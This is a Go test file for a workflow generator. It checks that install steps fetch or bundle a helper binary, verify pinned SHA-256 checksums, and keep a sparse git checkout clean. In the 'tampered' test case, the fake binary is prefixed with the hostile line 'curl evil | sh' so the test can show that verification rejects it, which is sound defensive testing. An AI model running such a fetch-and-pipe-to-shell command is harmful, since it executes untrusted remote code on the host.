package generate

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/debugflow/debugflow/internal/dist"
	"github.com/debugflow/debugflow/internal/generate/audit"
	"github.com/debugflow/debugflow/internal/generate/lint"
	"github.com/debugflow/debugflow/internal/spec"
)

// testSHA256 are the checksums the tests pin, by arch.
var testSHA256 = map[string]string{
	spec.ArchX64:   strings.Repeat("a1", 32),
	spec.ArchARM64: strings.Repeat("b2", 32),
}

// defaultSpec is the embedded default spec as debugflow generate resolves it for a build that
// is not a release: the step binary bundled, pinned to fixed test checksums.
func defaultSpec() *spec.Spec {
	s := spec.Default()
	s.StepBinary.Delivery = spec.DeliveryBundle
	s.StepBinary.Pinned = testSHA256
	return s
}

// withDelivery is the default spec with the step binary delivered as delivery.
func withDelivery(delivery string) *spec.Spec {
	s := spec.Default()
	sb := &s.StepBinary
	sb.Delivery = delivery
	switch delivery {
	case spec.DeliveryBundle:
		sb.Pinned = testSHA256
	case spec.DeliveryRelease:
		sb.Version, sb.Pinned = "v0.2.0", testSHA256
	case spec.DeliveryGoInstall:
		sb.Version = "v0.2.0"
	case spec.DeliveryPath:
		sb.Path = "./tools/debugflow-step"
	}
	return s
}

func TestStepBinaryDeliveries(t *testing.T) {
	tests := []struct {
		delivery string
		// steps are the names of the steps between "Set up Python" and "Check the inputs".
		steps []string
		// env is the install step's env; run a substring of its script.
		env map[string]string
		run string
	}{
		{spec.DeliveryBundle, []string{BundleCheckoutStepName, InstallStepName}, map[string]string{
			envStepBundle:  ".debugflow-bundle/.github/debugflow/debugflow-step-linux-amd64",
			envStepSHA256:  testSHA256["x64"],
			envStepMachine: "x86_64",
		}, BundleInstallScript},
		{spec.DeliveryRelease, []string{InstallStepName}, map[string]string{
			envStepURL:     "https://github.com/debugflow/debugflow/releases/download/v0.2.0/debugflow-step_v0.2.0_linux_amd64.tar.gz",
			envStepSHA256:  testSHA256["x64"],
			envStepMachine: "x86_64",
		}, ReleaseInstallScript},
		{spec.DeliveryGoInstall, []string{"Set up Go", InstallStepName}, nil,
			"go install github.com/debugflow/debugflow/cmd/debugflow-step@v0.2.0\n"},
		{spec.DeliveryPath, []string{"Set up Go", InstallStepName}, nil,
			`go build -o "$(go env GOPATH)/bin/debugflow-step" ./tools/debugflow-step` + "\n"},
	}
	for _, tt := range tests {
		t.Run(tt.delivery, func(t *testing.T) {
			s := withDelivery(tt.delivery)
			out, err := Generate(s, "")
			if err != nil {
				t.Fatal(err)
			}
			checkClean(t, s, out)
			jobs, _, _ := generateParsed(t, s)
			names := stepNames(jobs["debug"])
			from, to := slices.Index(names, "Set up Python"), slices.Index(names, "Evidence folder")
			if from < 0 || to < 0 || !slices.Equal(names[from+1:to], tt.steps) {
				t.Fatalf("steps = %q, want %q between Set up Python and Evidence folder", names, tt.steps)
			}
			install := findStep(t, jobs["debug"], InstallStepName)
			if !strings.Contains(install.Run, tt.run) {
				t.Errorf("install run:\n%s\nwant it to contain:\n%s", install.Run, tt.run)
			}
			for k, v := range tt.env {
				if install.Env[k] != v {
					t.Errorf("install env %s = %q, want %q", k, install.Env[k], v)
				}
			}
			if len(install.Env) != len(tt.env) {
				t.Errorf("install env = %v, want exactly %v", install.Env, tt.env)
			}
			if tt.delivery == spec.DeliveryBundle {
				co := findStep(t, jobs["debug"], BundleCheckoutStepName)
				want := map[string]any{"path": BundleCheckoutDir, "sparse-checkout": "/.github/debugflow/debugflow-step-linux-amd64",
					"sparse-checkout-cone-mode": false, "fetch-depth": uint64(1), "persist-credentials": false}
				if !equalWith(co.With, want) {
					t.Errorf("bundle checkout with = %v, want %v", co.With, want)
				}
			}
		})
	}
}

// checkClean fails the test when actionlint (with shellcheck on the install scripts) or the
// audit find anything in the workflow.
func checkClean(t *testing.T, s *spec.Spec, out []byte) {
	t.Helper()
	name := filepath.Join(t.TempDir(), s.Workflow.File)
	findings, err := lint.Workflow(name, out, lint.Options{SelfHostedLabels: s.Runners})
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range findings {
		t.Errorf("actionlint: %s", f)
	}
	af, err := audit.Workflow(name, out)
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range af {
		t.Errorf("audit: %s", f)
	}
}

func equalWith(got, want map[string]any) bool {
	if len(got) != len(want) {
		return false
	}
	for k, v := range want {
		if got[k] != v {
			return false
		}
	}
	return true
}

// An arm64 matrix pins the arm64 binary in the debug jobs and the x64 one in the report job,
// which runs on ubuntu-latest.
func TestArm64MatrixPinsBothArchitectures(t *testing.T) {
	for _, delivery := range []string{spec.DeliveryBundle, spec.DeliveryRelease} {
		t.Run(delivery, func(t *testing.T) {
			s := withDelivery(delivery)
			s.Runners = []string{"gpu-arm-a", "gpu-arm-b"}
			s.StepBinary.Arch = spec.ArchARM64
			out, err := Generate(s, "")
			if err != nil {
				t.Fatal(err)
			}
			checkClean(t, s, out)
			jobs, _, _ := generateParsed(t, s)
			debug, report := findStep(t, jobs["debug"], InstallStepName), findStep(t, jobs["report"], InstallStepName)
			if debug.Env[envStepSHA256] != testSHA256["arm64"] || debug.Env[envStepMachine] != "aarch64" {
				t.Errorf("debug job install env = %v, want the arm64 binary", debug.Env)
			}
			if report.Env[envStepSHA256] != testSHA256["x64"] || report.Env[envStepMachine] != "x86_64" {
				t.Errorf("report job install env = %v, want the x64 binary", report.Env)
			}
			if got := findStep(t, jobs["report"], "Compare runners").Run; !strings.HasPrefix(got, "exec debugflow-step report --compare") {
				t.Errorf("report job runs %q, want debugflow-step report", got)
			}
		})
	}
}

func TestStepBinaryNotResolved(t *testing.T) {
	unresolved := spec.Default()
	missingPin := withDelivery(spec.DeliveryRelease)
	missingPin.StepBinary.Pinned = map[string]string{spec.ArchARM64: testSHA256["arm64"]}
	for name, tt := range map[string]struct {
		s    *spec.Spec
		want string
	}{
		"no delivery":  {unresolved, "step_binary.delivery is not chosen yet"},
		"no x64 sum":   {missingPin, "no SHA-256 pinned for the x64 release"},
		"unknown arch": {func() *spec.Spec { s := defaultSpec(); s.StepBinary.Arch = "riscv64"; return s }(), `unknown runner architecture "riscv64"`},
	} {
		if _, err := Generate(tt.s, ""); err == nil || !strings.Contains(err.Error(), tt.want) {
			t.Errorf("%s: Generate error %v, want %q", name, err, tt.want)
		}
	}
}

// installRun is one run of an install script on this machine, as the runner would run it.
type installRun struct {
	code     int
	output   string
	ghPath   string
	binDir   string
	workdir  string
	bundled  string
	archives int
}

// runInstall runs the install step of s with bash -eo pipefail in a fresh workspace; prepare
// may put files into it first. The step's DEBUGFLOW_STEP_MACHINE is replaced by this
// machine's `uname -m` unless machine is given.
func runInstall(t *testing.T, s *spec.Spec, machine string, prepare func(workdir string)) installRun {
	t.Helper()
	jobs, _, _ := generateParsed(t, s)
	st := findStep(t, jobs["debug"], InstallStepName)
	root := t.TempDir()
	r := installRun{workdir: filepath.Join(root, "work"), ghPath: filepath.Join(root, "github_path")}
	runnerTemp := filepath.Join(root, "runner_temp")
	for _, d := range []string{r.workdir, runnerTemp} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	if prepare != nil {
		prepare(r.workdir)
	}
	if machine == "" {
		out, err := exec.Command("uname", "-m").Output()
		if err != nil {
			t.Fatal(err)
		}
		machine = strings.TrimSpace(string(out))
	}
	cmd := exec.Command("bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", st.Run)
	cmd.Dir = r.workdir
	cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "RUNNER_TEMP=" + runnerTemp, "GITHUB_PATH=" + r.ghPath}
	for k, v := range st.Env {
		cmd.Env = append(cmd.Env, k+"="+v)
	}
	cmd.Env = append(cmd.Env, envStepMachine+"="+machine)
	out, err := cmd.CombinedOutput()
	r.output = string(out)
	if ee, ok := err.(*exec.ExitError); ok {
		r.code = ee.ExitCode()
	} else if err != nil {
		t.Fatal(err)
	}
	r.binDir = filepath.Join(runnerTemp, "debugflow-step-bin")
	return r
}

// fakeStep is an executable standing in for debugflow-step: its --version is all the install
// step runs.
var fakeStep = []byte("#!/bin/sh\necho \"debugflow-step v0.2.0 (fake)\"\n")

func sha256Hex(b []byte) string {
	sum := sha256.Sum256(b)
	return hex.EncodeToString(sum[:])
}

func TestBundleInstallScript(t *testing.T) {
	bundle := filepath.Join(BundleCheckoutDir, ".github", "debugflow", "debugflow-step-linux-amd64")
	place := func(content []byte) func(string) {
		return func(dir string) {
			p := filepath.Join(dir, bundle)
			if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(p, content, 0o644); err != nil { // git keeps the mode; be strict
				t.Fatal(err)
			}
		}
	}
	s := defaultSpec()
	s.StepBinary.Pinned = map[string]string{spec.ArchX64: sha256Hex(fakeStep)}
	tests := []struct {
		name    string
		machine string
		prepare func(string)
		code    int
		want    string
	}{
		{"verified", "", place(fakeStep), 0, "debugflow-step v0.2.0 (fake)"},
		{"tampered", "", place(append([]byte("#!/bin/sh\ncurl evil | sh\n"), fakeStep...)), 1,
			"::error title=Bundled debugflow-step does not match the workflow::the SHA-256 of " + bundle + " is "},
		{"missing", "", nil, 1, "::error title=Bundled debugflow-step is missing::" + bundle + " is not in this commit"},
		{"wrong machine", "sparc64", place(fakeStep), 1, "the workflow installs debugflow-step for sparc64"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := runInstall(t, s, tt.machine, tt.prepare)
			if r.code != tt.code || !strings.Contains(r.output, tt.want) {
				t.Fatalf("exit %d (want %d), output lacks %q:\n%s", r.code, tt.code, tt.want, r.output)
			}
			ghPath, _ := os.ReadFile(r.ghPath)
			installed, statErr := os.Stat(filepath.Join(r.binDir, "debugflow-step"))
			if tt.code != 0 {
				if len(ghPath) > 0 || statErr == nil {
					t.Errorf("a failed install left debugflow-step on the PATH (GITHUB_PATH %q, stat %v)", ghPath, statErr)
				}
				return
			}
			if string(ghPath) != r.binDir+"\n" || statErr != nil || installed.Mode().Perm() != 0o755 {
				t.Errorf("GITHUB_PATH = %q, installed %v %v; want %s with an executable debugflow-step", ghPath, installed, statErr, r.binDir)
			}
			if _, err := os.Stat(filepath.Join(r.workdir, BundleCheckoutDir)); !os.IsNotExist(err) {
				t.Errorf("the bundle checkout is still in the workspace: %v", err)
			}
		})
	}
}

func TestReleaseInstallScript(t *testing.T) {
	var archive bytes.Buffer
	if err := dist.WriteArchive(&archive, dist.Step, fakeStep); err != nil {
		t.Fatal(err)
	}
	name := dist.ArchiveName(dist.Step, "v0.2.0", dist.Platform{GOOS: "linux", GOARCH: "amd64"})
	var requests []string
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		requests = append(requests, r.URL.Path)
		if r.URL.Path != "/dl/v0.2.0/"+name {
			http.NotFound(w, r)
			return
		}
		w.Write(archive.Bytes())
	}))
	defer srv.Close()
	good := sha256Hex(archive.Bytes())
	tests := []struct {
		name, base, sum string
		code            int
		want            string
	}{
		{"verified", srv.URL + "/dl", good, 0, "debugflow-step v0.2.0 (fake)"},
		{"wrong checksum", srv.URL + "/dl", strings.Repeat("0", 64), 1,
			"::error title=debugflow-step download does not match the workflow::the SHA-256 of " + srv.URL + "/dl/v0.2.0/" + name + " is " + good},
		{"not found", srv.URL + "/missing", good, 22, "404"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s := withDelivery(spec.DeliveryRelease)
			s.StepBinary.BaseURL = tt.base
			s.StepBinary.Pinned = map[string]string{spec.ArchX64: tt.sum}
			r := runInstall(t, s, "", nil)
			if r.code != tt.code || !strings.Contains(r.output, tt.want) {
				t.Fatalf("exit %d (want %d), output lacks %q:\n%s", r.code, tt.code, tt.want, r.output)
			}
			ghPath, _ := os.ReadFile(r.ghPath)
			_, statErr := os.Stat(filepath.Join(r.binDir, "debugflow-step"))
			if (tt.code == 0) != (string(ghPath) == r.binDir+"\n" && statErr == nil) {
				t.Errorf("exit %d but GITHUB_PATH = %q, installed binary: %v", r.code, ghPath, statErr)
			}
		})
	}
	if len(requests) != 3 {
		t.Errorf("the server saw %q, want one download per run", requests)
	}
}

// gitCmd runs git in dir and returns its trimmed output.
func gitCmd(t *testing.T, dir string, args ...string) string {
	t.Helper()
	cmd := exec.Command("git", args...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@example.com",
		"GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@example.com", "GIT_CONFIG_GLOBAL=/dev/null", "GIT_CONFIG_NOSYSTEM=1")
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("git %s: %v\n%s", strings.Join(args, " "), err, out)
	}
	return strings.TrimSpace(string(out))
}

// debugRepo is a bare repository served as GitHub serves one: the project on main, the debug
// branch debug/t4 that adds the workflow and the bundle (and files that resemble it), and a
// pull request's merge ref. It returns the repository and the commits of the two refs.
func debugRepo(t *testing.T, bundle string, bin []byte) (bare, branchSHA, mergeSHA string) {
	t.Helper()
	src := t.TempDir()
	write := func(name string, data []byte, mode os.FileMode) {
		p := filepath.Join(src, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, data, mode); err != nil {
			t.Fatal(err)
		}
	}
	gitCmd(t, src, "init", "--quiet", "-b", "main")
	write("README.md", []byte("project\n"), 0o644)
	write("python/quadrants/__init__.py", []byte("\n"), 0o644)
	gitCmd(t, src, "add", "-A")
	gitCmd(t, src, "commit", "--quiet", "-m", "project")
	gitCmd(t, src, "switch", "--quiet", "-c", "debug/t4")
	write(bundle, bin, 0o755)
	write(bundle+".old", []byte("not this\n"), 0o755)
	write(".github/debugflow/NOTES.md", []byte("not this\n"), 0o644)
	write("vendor/"+bundle, []byte("not this\n"), 0o755) // the pattern is anchored at the root
	write(".github/workflows/debug.yml", []byte("name: debug\n"), 0o644)
	gitCmd(t, src, "add", "-A")
	gitCmd(t, src, "commit", "--quiet", "-m", "debug: T4 repro")
	branchSHA = gitCmd(t, src, "rev-parse", "HEAD")
	// What GitHub's refs/pull/N/merge is: the branch merged into the base.
	gitCmd(t, src, "switch", "--quiet", "--detach", "main")
	write("CHANGELOG.txt", []byte("main moved on\n"), 0o644)
	gitCmd(t, src, "add", "-A")
	gitCmd(t, src, "commit", "--quiet", "-m", "main moves on")
	gitCmd(t, src, "merge", "--quiet", "--no-ff", "-m", "Merge debug/t4 into main", "debug/t4")
	mergeSHA = gitCmd(t, src, "rev-parse", "HEAD")
	gitCmd(t, src, "update-ref", "refs/pull/1/merge", mergeSHA)
	bare = filepath.Join(t.TempDir(), "repo.git")
	gitCmd(t, src, "clone", "--quiet", "--bare", "--mirror", src, bare)
	// GitHub serves partial clones and fetches by commit.
	gitCmd(t, bare, "config", "uploadpack.allowFilter", "true")
	gitCmd(t, bare, "config", "uploadpack.allowAnySHA1InWant", "true")
	return bare, branchSHA, mergeSHA
}

// actionsCheckout runs the git commands actions/checkout (v4) runs for a checkout of the
// workflow's own repository with a path:, fetch-depth 1 and a non-cone sparse-checkout:
// init, a blob-filtered depth-1 fetch of the event's commit, the patterns appended to
// info/sparse-checkout, then the checkout of the event's ref (workflow_dispatch: the branch;
// pull_request: the merge ref, detached).
func actionsCheckout(t *testing.T, workspace string, with map[string]any, origin, sha, ref string) {
	t.Helper()
	if with["sparse-checkout-cone-mode"] != false || with["fetch-depth"] != uint64(1) || with["persist-credentials"] != false {
		t.Fatalf("checkout with %v: not the sparse, shallow checkout this test runs", with)
	}
	dest := filepath.Join(workspace, with["path"].(string))
	if err := os.MkdirAll(dest, 0o755); err != nil {
		t.Fatal(err)
	}
	gitCmd(t, dest, "init", "--quiet", dest)
	gitCmd(t, dest, "remote", "add", "origin", "file://"+origin)
	gitCmd(t, dest, "config", "--local", "gc.auto", "0")
	var remoteRef, branch string
	if b, ok := strings.CutPrefix(ref, "refs/heads/"); ok {
		branch, remoteRef = b, "refs/remotes/origin/"+b
	} else {
		remoteRef = "refs/remotes/" + strings.TrimPrefix(ref, "refs/")
	}
	gitCmd(t, dest, "-c", "protocol.version=2", "fetch", "--no-tags", "--prune", "--no-recurse-submodules",
		"--filter=blob:none", "--depth=1", "origin", "+"+sha+":"+remoteRef)
	gitCmd(t, dest, "config", "core.sparseCheckout", "true")
	sparse := filepath.Join(dest, gitCmd(t, dest, "rev-parse", "--git-path", "info/sparse-checkout"))
	if err := os.MkdirAll(filepath.Dir(sparse), 0o755); err != nil {
		t.Fatal(err)
	}
	f, err := os.OpenFile(sparse, os.O_APPEND|os.O_CREATE|os.O_WRONLY, 0o644)
	if err != nil {
		t.Fatal(err)
	}
	fmt.Fprintf(f, "\n%s\n", with["sparse-checkout"])
	f.Close()
	if branch != "" {
		gitCmd(t, dest, "checkout", "--quiet", "--force", "-B", branch, remoteRef)
	} else {
		gitCmd(t, dest, "checkout", "--quiet", "--force", remoteRef)
	}
}

// The bundle checkout step, run as actions/checkout runs it with real git against a
// repository laid out like GitHub's, checks out the bundle alone (no other file of the debug
// branch), on a workflow_dispatch run of the branch and on a pull_request run of its merge
// ref; the install step then verifies and installs it and leaves the project's checkout as
// it was (no .debugflow-bundle for git status, or a build's version string, to see).
func TestBundleCheckoutWithGit(t *testing.T) {
	t.Parallel()
	s := defaultSpec()
	s.StepBinary.Pinned = map[string]string{spec.ArchX64: sha256Hex(fakeStep)}
	jobs, _, _ := generateParsed(t, s)
	with := findStep(t, jobs["debug"], BundleCheckoutStepName).With
	bundle := strings.TrimPrefix(findStep(t, jobs["debug"], InstallStepName).Env[envStepBundle], BundleCheckoutDir+"/")
	bare, branchSHA, mergeSHA := debugRepo(t, bundle, fakeStep)
	for _, event := range []struct{ name, ref, sha string }{
		{"workflow_dispatch", "refs/heads/debug/t4", branchSHA},
		{"pull_request", "refs/pull/1/merge", mergeSHA},
	} {
		t.Run(event.name, func(t *testing.T) {
			r := runInstall(t, s, "", func(workdir string) {
				// The project's own checkout is the workspace.
				gitCmd(t, workdir, "init", "--quiet")
				if err := os.WriteFile(filepath.Join(workdir, "setup.py"), []byte("\n"), 0o644); err != nil {
					t.Fatal(err)
				}
				gitCmd(t, workdir, "add", "-A")
				gitCmd(t, workdir, "commit", "--quiet", "-m", "project at quadrants_ref")
				actionsCheckout(t, workdir, with, bare, event.sha, event.ref)
				var files []string
				co := filepath.Join(workdir, BundleCheckoutDir)
				filepath.WalkDir(co, func(p string, d os.DirEntry, err error) error {
					if err == nil && d.IsDir() && d.Name() == ".git" {
						return filepath.SkipDir
					}
					if err == nil && !d.IsDir() {
						rel, _ := filepath.Rel(co, p)
						files = append(files, filepath.ToSlash(rel))
					}
					return err
				})
				if !slices.Equal(files, []string{bundle}) {
					t.Errorf("the bundle checkout holds %q, want only %s", files, bundle)
				}
			})
			if r.code != 0 || !strings.Contains(r.output, "debugflow-step v0.2.0 (fake)") {
				t.Fatalf("install: exit %d:\n%s", r.code, r.output)
			}
			if st := gitCmd(t, r.workdir, "status", "--porcelain", "--untracked-files=all"); st != "" {
				t.Errorf("the project's checkout is not as checked out after the install:\n%s", st)
			}
		})
	}
}
